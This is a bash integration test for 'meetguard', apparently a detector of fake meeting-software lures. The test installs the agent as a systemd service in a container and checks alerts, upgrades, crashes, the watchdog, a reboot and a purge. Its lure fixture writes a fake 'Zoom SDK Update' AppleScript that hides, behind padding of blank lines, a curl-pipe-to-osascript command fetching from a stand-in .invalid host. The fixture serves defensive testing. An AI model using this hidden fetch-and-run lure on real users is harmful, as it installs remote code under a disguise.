@@ -1,0 +1,244 @@
+#!/bin/bash
+# 10-systemd.sh: the agent as a service, in a booted systemd: installed from a
+# .deb, it alerts, tells the truth, is upgraded, killed, hung, rebooted, removed.
+# What is typed and seen is kept in build/test-packages/systemd.txt.
+#
+# DEB=file.deb takes that package; else a plain one is made of bin/meetguard and
+# the unit. Root only. Nothing in the container reaches the network.
+set -euo pipefail
+cd "$(dirname "$0")/../.."
+
+[ "$(id -u)" = 0 ] || { echo "10-systemd.sh: needs root: systemd-nspawn boots a system" >&2; exit 1; }
+missing=
+command -v debootstrap >/dev/null || missing="$missing debootstrap"
+command -v systemd-nspawn >/dev/null || missing="$missing systemd-container"
+if [ -n "$missing" ]; then
+  # shellcheck disable=SC2086 # a list of packages
+  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $missing >/dev/null
+fi
+
+work=$PWD/build/test-packages
+base=$work/bookworm root=$work/machine log=$work/systemd.txt
+mkdir -p "$work"
+if [ ! -d "$base" ]; then
+  echo "making a Debian system, once, in $base"
+  rm -rf "$base.part"
+  debootstrap --variant=minbase --include=systemd,systemd-sysv,dbus,procps bookworm "$base.part" \
+    "$(sed -n 's/^URIs: //p; s/^deb \([^ ]*\) bookworm .*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/debian.sources 2>/dev/null | grep debian$ | head -1)" >"$work/debootstrap.log"
+  mv "$base.part" "$base"
+fi
+
+# A plain package, of the same files and scripts that the real one has.
+plain() { # plain VERSION
+  local d=$work/deb-$1
+  rm -rf "$d"
+  mkdir -p "$d/DEBIAN" "$d/usr/bin" "$d/usr/lib/systemd/system" "$d/usr/lib/sysusers.d" "$d/etc/meetguard"
+  install -m 755 bin/meetguard "$d/usr/bin/"
+  install -m 644 installer/systemd/meetguard.service "$d/usr/lib/systemd/system/"
+  install -m 644 installer/systemd/meetguard.sysusers "$d/usr/lib/sysusers.d/meetguard.conf"
+  printf 'Package: meetguard\nVersion: %s\nArchitecture: amd64\nMaintainer: meetguard <meetguard@meetguard.invalid>\nDescription: catches fake meeting software\n' "$1" >"$d/DEBIAN/control"
+  cat >"$d/DEBIAN/postinst" <<'S'
+#!/bin/sh
+set -e
+[ "$1" = configure ] || exit 0
+systemd-sysusers meetguard.conf
+systemctl daemon-reload
+if [ -z "$2" ]; then systemctl enable -q meetguard; systemctl start meetguard; else systemctl try-restart meetguard; fi
+S
+  cat >"$d/DEBIAN/prerm" <<'S'
+#!/bin/sh
+set -e
+[ "$1" != remove ] || systemctl disable -q --now meetguard
+S
+  cat >"$d/DEBIAN/postrm" <<'S'
+#!/bin/sh
+set -e
+if [ "$1" = purge ]; then
+  rm -rf /var/lib/meetguard /var/log/meetguard /etc/meetguard /etc/systemd/system/meetguard.service.d
+  userdel meetguard 2>/dev/null || true
+fi
+[ ! -d /run/systemd/system ] || systemctl daemon-reload
+S
+  chmod 755 "$d"/DEBIAN/p*
+  dpkg-deb --root-owner-group -Znone -b "$d" "$work/meetguard-$1.deb" >/dev/null
+  rm -rf "$d"
+}
+
+boot() {
+  : >"$work/console.log"
+  # A name of its own, no registration: PID 1 of this machine need not be systemd.
+  SYSTEMD_NSPAWN_UNIFIED_HIERARCHY=${UNIFIED:-0} nice systemd-nspawn -q -D "$root" --register=no --keep-unit -M "mgtest$$" --private-network \
+    --capability=CAP_BPF,CAP_PERFMON --system-call-filter="bpf" -b >"$work/console.log" 2>&1 </dev/null &
+  nspawn=$!
+  for _ in $(seq 300); do
+    leader=$(pgrep -P "$nspawn" -x systemd || true)
+    if [ -n "$leader" ] && inside systemctl is-system-running 2>/dev/null | grep -qE 'running|degraded'; then return; fi
+    sleep 0.2
+  done
+  cat "$work/console.log"
+  fail "the system did not boot"
+}
+
+inside() { nsenter -t "$leader" -m -u -i -n -p -C -- env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 "$@"; }
+
+# shut ends the system, as its own poweroff does.
+shut() {
+  [ -n "${leader:-}" ] || return 0
+  kill -RTMIN+4 "$leader" 2>/dev/null || true
+  for _ in $(seq 150); do kill -0 "$nspawn" 2>/dev/null || break; sleep 0.2; done
+  kill "$nspawn" 2>/dev/null || true
+  wait "$nspawn" 2>/dev/null || true
+  leader=
+}
+trap 'shut; rm -rf "$root"' EXIT
+
+# typed runs a command in the machine and keeps it and what it printed.
+typed() {
+  echo "# $*" | tee -a "$log"
+  inside sh -c "$*" 2>&1 | tee -a "$log" || fail "$*"
+}
+say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
+fail() { echo "10-systemd.sh: FAILED: $*" >&2; inside journalctl -u meetguard --no-pager -n 60 >&2 || true; exit 1; }
+
+pid() { inside systemctl show -p MainPID --value meetguard; }
+alerts() { inside sh -c 'cat /var/lib/meetguard/alerts*.jsonl 2>/dev/null | wc -l'; }
+now() { date +%s%3N; }
+
+# until_ok SECONDS WHAT COMMAND… waits until the command succeeds and says how
+# long that took.
+until_ok() {
+  local most=$1 what=$2 began
+  shift 2
+  began=$(now)
+  while ! "$@" >/dev/null 2>&1; do
+    [ $(($(now) - began)) -lt $((most * 1000)) ] || fail "$what: not within $most s"
+    sleep 0.05
+  done
+  echo "→ $what after $(($(now) - began)) ms (bar: $most s)" | tee -a "$log"
+}
+
+lure() { # lure NAME MARK: inert, its host does not exist
+  printf -- '-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update.\n%s-- %s\ndo shell script "curl -fsSL https://zoom-sdk-update.invalid/%s | osascript"\n' \
+    "$(printf '\n%.0s' $(seq 90))x" "$2" "$2" | inside sh -c "cat >/root/lure && install -o ada -g ada -m 644 /root/lure '/home/ada/Downloads/$1'"
+}
+# told NAME: the log has an alert of that file. The kernel tells of launches of
+# the whole machine, so the number of alerts says nothing.
+told() { inside sh -c "cat /var/lib/meetguard/alerts*.jsonl" | grep -qF "/home/ada/Downloads/$1\""; }
+detects() { # detects SECONDS NAME: a fresh lure becomes an alert
+  lure "$2.scpt" "$2-$RANDOM"
+  until_ok "$1" "the lure $2.scpt is an alert" told "$2.scpt"
+}
+active() { [ "$(inside systemctl is-active meetguard)" = active ]; }
+started() { local p; p=$(pid) && [ "$p" != 0 ] && [ "$p" != "$1" ]; }
+restarted() { started "$1" && active; }
+proved() { inside systemctl show -p StatusText --value meetguard | grep -q 'came back'; }
+
+# --- the run ------------------------------------------------------------------
+rm -rf "$root"
+cp -a --reflink=auto "$base" "$root"
+: >"$log"
+if [ -n "${DEB:-}" ]; then cp "$DEB" "$work/meetguard-1.deb"; cp "${DEB2:-$DEB}" "$work/meetguard-2.deb"; else plain 1; plain 2; fi
+cp "$work"/meetguard-[12].deb "$root/root/"
+boot
+inside useradd -m -s /bin/bash ada
+inside install -d -o ada -g ada /home/ada/Downloads
+
+say "install"
+typed "dpkg -i /root/meetguard-1.deb"
+until_ok 30 "the service is active" active
+until_ok 60 "the canary came back" proved
+typed "systemctl status meetguard --no-pager -n 12 | cut -c1-180"
+typed "meetguard service status"
+typed "ps -o user,pid,ni,rss,args -C meetguard"
+typed "stat -c '%A %U:%G %n' /var/lib/meetguard /var/lib/meetguard/* /var/log/meetguard /etc/meetguard /usr/bin/meetguard"
+
+say "a lure in a user's Downloads"
+detects 5 "Zoom update 1"
+typed "meetguard alerts list | grep 'Fake Zoom' | cut -c1-160"
+typed "meetguard status"
+typed "meetguard doctor"
+
+say "the self-test"
+# The kernel numbers processes for the whole machine and a container has numbers
+# of its own, by which the self-test knows its launch: so here launches are listed.
+inside sh -c 'echo "launches: poll" >/etc/meetguard/config.yaml; systemctl restart meetguard'
+typed "meetguard selftest"
+inside sh -c 'rm /etc/meetguard/config.yaml; systemctl restart meetguard'
+until_ok 60 "the canary came back" proved
+typed "systemctl show meetguard -p User -p MemoryMax -p TasksMax -p Nice -p IOSchedulingClass -p WatchdogUSec -p Restart -p IPAddressDeny -p IPAddressAllow"
+typed "systemd-analyze security meetguard --no-pager | tail -2"
+
+say "reload"
+typed "systemctl reload meetguard; systemctl is-active meetguard"
+inside journalctl -u meetguard --no-pager | grep -q 'Configuration reloaded' || fail "no reload"
+
+say "upgrade keeps state"
+had=$(alerts) was=$(pid) uid=$(inside cat /var/lib/meetguard/host.json)
+typed "dpkg -i /root/meetguard-2.deb"
+until_ok 30 "a new process is active" restarted "$was"
+[ "$(alerts)" -ge "$had" ] && [ "$(inside cat /var/lib/meetguard/host.json)" = "$uid" ] || fail "state was lost"
+[ "$(inside systemctl show -p NRestarts --value meetguard)" = 0 ] || fail "it was not the package that restarted it"
+detects 5 "Zoom update 2"
+
+say "kill -9"
+was=$(pid)
+typed "kill -9 $was"
+lure "while down.scpt" "down-$RANDOM"
+until_ok 2 "a new process is there" started "$was"
+until_ok 5 "the lure that landed meanwhile is an alert" told "while down.scpt"
+detects 5 "Zoom update 3"
+
+say "what lands while it is dead"
+typed "systemctl stop meetguard; systemctl is-active meetguard || true"
+lure "while dead.scpt" "dead-$RANDOM"
+typed "systemctl start meetguard"
+until_ok 5 "the lure that landed meanwhile is an alert" told "while dead.scpt"
+
+say "a pipeline that hangs: the watchdog"
+# The pace follows the watchdog: 60 s make it a proof every 50 s with a limit of 5.
+inside sh -c 'mkdir -p /etc/systemd/system/meetguard.service.d; printf "[Service]\nWatchdogSec=60\n" >/etc/systemd/system/meetguard.service.d/test.conf; systemctl daemon-reload; systemctl restart meetguard'
+until_ok 60 "the canary came back" proved
+was=$(pid)
+typed "pkill -STOP -f inspection-worker # the process that looks into files"
+until_ok 75 "systemd has started it again" restarted "$was"
+typed "journalctl -u meetguard --no-pager -o cat | grep -iE 'canary failed|watchdog' | tail -4"
+detects 5 "Zoom update 4"
+until_ok 60 "the canary came back" proved
+was=$(pid)
+typed "kill -STOP $was # the whole agent"
+until_ok 80 "systemd has started it again" restarted "$was"
+detects 5 "Zoom update 5"
+inside sh -c 'rm -r /etc/systemd/system/meetguard.service.d; systemctl daemon-reload; systemctl restart meetguard'
+
+say "the log"
+typed "journalctl -u meetguard --no-pager -o short-iso -p warning -n 6 | cut -c1-200"
+inside journalctl -u meetguard --no-pager -o json -n 200 | grep -q '"PRIORITY":"4"' || fail "no line has its priority"
+if inside journalctl -u meetguard --no-pager -o cat | grep -E '^(<[0-9]>|time=)'; then fail "a line has its time or its priority twice"; fi
+
+say "reboot"
+had=$(alerts)
+shut
+boot
+until_ok 60 "the service is active after the boot" active
+[ "$(alerts)" -ge "$had" ] || fail "alerts were lost"
+detects 10 "Zoom update 6"
+
+if [ -n "${IDLE:-}" ]; then
+  say "idle, over $IDLE s"
+  sleep 30
+  p=$(pid)
+  sum() { inside sh -c 'for p in $(pgrep -x meetguard); do cat /proc/$p/task/*/status /proc/$p/task/*/stat; done' | awk '/^voluntary_ctxt/ {w+=$2} /^[0-9]+ \(/ {sub(/.*\) /,""); split($0,f," "); c+=f[12]+f[13]} END {print w+0, c*10}'; }
+  before=$(sum); sleep "$IDLE"; after=$(sum)
+  echo "voluntary switches and CPU ms, before: $before; after: $after" | tee -a "$log"
+  typed "grep -hE '^(Name|VmRSS|RssAnon|Threads)' /proc/\$(systemctl show -p MainPID --value meetguard)/status"
+  typed "for p in \$(pgrep -x meetguard); do tr '\\0' ' ' </proc/\$p/cmdline | cut -c1-60; awk '/^Pss:/ {print \"  PSS\", \$2, \"KiB\"}' /proc/\$p/smaps_rollup; done"
+  typed "systemctl show meetguard -p MemoryCurrent -p CPUUsageNSec -p TasksCurrent"
+fi
+
+say "remove and purge"
+typed "dpkg --remove meetguard 2>&1 | tail -1; ls -d /var/lib/meetguard /etc/meetguard /usr/bin/meetguard /usr/lib/systemd/system/meetguard.service 2>&1 || true"
+typed "dpkg --purge meetguard 2>&1 | tail -1"
+left=$(inside sh -c 'ls -d /var/lib/*meetguard* /var/log/*meetguard* /etc/*meetguard* /usr/bin/meetguard /usr/lib/systemd/system/meetguard* /etc/systemd/system/*meetguard* /etc/systemd/system/*/meetguard* /run/meetguard 2>/dev/null; getent passwd meetguard; systemctl list-units --all --no-legend "meetguard*"' || true)
+[ -z "$left" ] || fail "left behind: $left"
+echo "nothing is left" | tee -a "$log"
+echo "10-systemd.sh: passed; transcript in $log"
